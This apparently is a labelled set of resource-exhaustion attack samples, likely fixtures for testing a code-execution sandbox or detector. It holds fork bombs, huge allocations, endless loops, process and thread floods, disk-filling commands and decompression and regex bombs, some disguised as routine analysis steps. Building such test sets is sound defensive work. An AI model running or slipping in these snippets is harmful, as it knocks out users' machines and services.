# attacks: resource exhaustion — fork bombs, huge allocations, endless loops, unbounded threads or processes, filling the disk, long sleeps, recursion and decompression bombs
#%% python fork bomb hidden in a "parallel warm-up" — exhausts CPU, memory, disk, processes or time
import os

def warm_up():
    while True:
        os.fork()

warm_up()
#%% python huge allocation disguised as a distance matrix — exhausts CPU, memory, disk, processes or time
import numpy as np

n = len(df) * 10**4
dist = np.zeros((n, n))
#%% python bytearray of a terabyte — exhausts CPU, memory, disk, processes or time
buf = bytearray(10**12)
#%% python endless busy loop — exhausts CPU, memory, disk, processes or time
while 1:
    pass
#%% python loop whose exit condition can never be met — exhausts CPU, memory, disk, processes or time
converged = False
tol = -1.0
err = 1.0
while not converged:
    err *= 0.5
    converged = err < tol
#%% python unbounded thread creation — exhausts CPU, memory, disk, processes or time
import threading
import time

while True:
    threading.Thread(target=time.sleep, args=(3600,)).start()
#%% python multiprocessing Pool with thousands of workers — exhausts CPU, memory, disk, processes or time
from multiprocessing import Pool

with Pool(20000) as pool:
    pool.map(sum, [[1]] * 20000)
#%% python fills the disk with an "export" in a loop — exhausts CPU, memory, disk, processes or time
import os

os.makedirs("output", exist_ok=True)
chunk = os.urandom(1 << 24)
with open("output/export.bin", "wb") as f:
    while True:
        f.write(chunk)
#%% python sleep for months — exhausts CPU, memory, disk, processes or time
import time

time.sleep(10**7)
#%% python recursion bomb with a raised recursion limit — exhausts CPU, memory, disk, processes or time
import sys

sys.setrecursionlimit(10**9)

def depth(n):
    return depth(n + 1) + 1

depth(0)
#%% python zip bomb created and extracted in memory — exhausts CPU, memory, disk, processes or time
import io
import zipfile

buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    with z.open("zeros.bin", "w", force_zip64=True) as w:
        block = b"\0" * (1 << 24)
        for _ in range(1 << 14):
            w.write(block)
data = zipfile.ZipFile(buf).read("zeros.bin")
#%% python list of an infinite iterator — exhausts CPU, memory, disk, processes or time
import itertools

ids = list(itertools.count())
#%% python string multiplication of a trillion characters — exhausts CPU, memory, disk, processes or time
padding = " " * 10**12
#%% python cross join of the sales table with itself three times — exhausts CPU, memory, disk, processes or time
big = df.merge(df, how="cross").merge(df, how="cross")
#%% python huge random matrix "for a Monte Carlo" — exhausts CPU, memory, disk, processes or time
import numpy as np

sims = np.random.default_rng(0).random((10**6, 10**6))
#%% python factorial of a billion — exhausts CPU, memory, disk, processes or time
import math

math.factorial(10**9)
#%% python power tower integer — exhausts CPU, memory, disk, processes or time
x = 10 ** 10 ** 10
#%% python catastrophic regex backtracking on a long string — exhausts CPU, memory, disk, processes or time
import re

re.match(r"^(a+)+$", "a" * 5000 + "b")
#%% python spawns processes in a loop — exhausts CPU, memory, disk, processes or time
import subprocess

procs = []
while True:
    procs.append(subprocess.Popen(["sleep", "100000"]))
#%% python opens files until descriptors run out — exhausts CPU, memory, disk, processes or time
import tempfile

handles = []
while True:
    handles.append(tempfile.TemporaryFile())
#%% python asyncio gather of a hundred million tasks — exhausts CPU, memory, disk, processes or time
import asyncio

await asyncio.gather(*(asyncio.sleep(3600) for _ in range(10**8)))
#%% python memory leak appending copies of the frame — exhausts CPU, memory, disk, processes or time
frames = []
for i in range(10**9):
    frames.append(df.copy())
#%% python np.ones with 2**42 bytes — exhausts CPU, memory, disk, processes or time
import numpy as np

mask = np.ones(2**42, dtype=np.uint8)
#%% python deeply nested JSON parsed recursively — exhausts CPU, memory, disk, processes or time
import json

json.loads("[" * 10**8 + "]" * 10**8)
#%% shell classic fork bomb — exhausts CPU, memory, disk, processes or time
:(){ :|:& };:
#%% shell yes into a file fills the disk — exhausts CPU, memory, disk, processes or time
yes "padding" > output/pad.txt
#%% shell dd writes a huge file — exhausts CPU, memory, disk, processes or time
dd if=/dev/zero of=output/big.bin bs=1M count=10000000
#%% shell fallocate of 500 GB — exhausts CPU, memory, disk, processes or time
fallocate -l 500G output/cache.img
#%% shell sleep infinity — exhausts CPU, memory, disk, processes or time
sleep infinity
#%% shell background python loops spawned forever — exhausts CPU, memory, disk, processes or time
while true; do python3 -c "while 1: pass" & done
#%% python bootstrap with an absurd number of resamples disguised as precision — exhausts CPU, memory, disk, processes or time
import numpy as np

vals = df["revenue"].to_numpy()
rng = np.random.default_rng(0)
boot = rng.choice(vals, size=(10**7, vals.size)).mean(axis=1)
np.percentile(boot, [2.5, 97.5])
